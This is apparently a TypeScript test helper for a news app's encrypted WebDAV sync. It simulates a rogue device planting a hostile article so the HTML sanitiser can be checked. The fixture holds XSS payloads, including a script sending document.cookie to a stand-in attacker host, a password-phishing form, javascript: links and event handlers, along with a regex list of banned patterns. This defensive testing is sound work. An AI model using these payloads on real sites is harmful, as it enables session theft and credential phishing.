// A third device with the library's key (a stolen key, or a buggy client) offers one article whose HTML is
// hostile: it writes the encrypted article file, registers itself and writes its state file naming that
// version, exactly as a Tin Sạch device would. Used by the two-browser scenario (Node side).
import 'fake-indexeddb/auto';
import { getArticle, openLibrary, saveArticle } from '../../utils/library';
import { encryptFile, keysFromMaterial, opaqueName, parseKeycheck } from '../../utils/sync/crypto';
import { articleLogicalName, articlePlainText } from '../../utils/sync/article-file';
import { listDevices, registerDevice } from '../../utils/sync/devices';
import { stateLogicalName } from '../../utils/sync/state-file';
import { WebDavClient } from '../../utils/sync/webdav';
import type { SyncConfig } from '../../utils/sync/config';
import type { DavServer } from './apache';
import { makeArticle } from '../library/fixtures/articles';

export const HOSTILE_HTML =
  '<p onclick="alert(1)" onmouseover="alert(2)">Xã Gia Phú tổ chức họp dân về dự án đường liên thôn.</p>' +
  '<script>fetch("https://ke-gian.example/?" + document.cookie)</script>' +
  '<p>Xem <a href="javascript:alert(3)">biên bản cuộc họp</a> và <a href="https://giaphu.laocai.gov.vn/bien-ban">bản gốc</a>.</p>' +
  '<form action="https://ke-gian.example/login"><input name="mat-khau"><button>Gửi</button></form>' +
  '<svg><script>alert(4)</script><circle r="1"></circle></svg>' +
  '<img src="https://giaphu.laocai.gov.vn/anh.jpg" onerror="alert(5)" alt="Cuộc họp">' +
  '<p>Người dân đồng thuận hiến đất làm đường.</p>';

/** What must not survive the sanitiser, and the words that must. */
export const HOSTILE_BANNED = [/<script/i, /\son\w+=/i, /javascript:/i, /<form/i, /<input/i, /<button/i, /<svg/i, /<circle/i, /ke-gian/];
export const HOSTILE_KEPT = ['Xã Gia Phú tổ chức họp dân về dự án đường liên thôn.', 'biên bản cuộc họp', 'Người dân đồng thuận hiến đất làm đường.'];

export async function offerArticleFromThirdDevice(dav: DavServer, config: SyncConfig): Promise<{ id: string; banned: RegExp[]; kept: string[] }> {
  const client = new WebDavClient({ folder: dav.folder, username: dav.username, password: dav.password, timeoutMs: 10_000 });
  const keycheck = parseKeycheck(JSON.parse(new TextDecoder().decode((await client.get('keycheck'))!.bytes)))!;
  const keys = await keysFromMaterial(config.keyMaterial, keycheck);
  const scratch = await openLibrary({ name: `third-device-${Date.now()}` });
  const { id } = await saveArticle(scratch, makeArticle({ url: 'https://giaphu.baothang.laocai.gov.vn/tin-tuc/hop-dan-duong-lien-thon.html', images: [] }));
  const article = { ...(await getArticle(scratch, id))!, html: HOSTILE_HTML };
  const { text, hash } = await articlePlainText(article);
  const logical = articleLogicalName(id, hash);
  await client.create(await opaqueName(keys, logical), await encryptFile(keys, logical, new TextEncoder().encode(text)));
  const device = 'd00000000000000c3';
  const { free } = await listDevices(client, keys);
  if ((await registerDevice(client, keys, device, free)) === null) throw new Error('no free device slot for the third device');
  const at = { wall: Date.now(), count: 0, device };
  const stateFile = { version: 1, device, state: { articles: { [id]: { tags: {} } }, follows: {} }, versions: { [id]: { value: hash, at } } };
  const stateName = stateLogicalName(device);
  await client.create(await opaqueName(keys, stateName), await encryptFile(keys, stateName, new TextEncoder().encode(JSON.stringify(stateFile))));
  return { id, banned: HOSTILE_BANNED, kept: HOSTILE_KEPT };
}
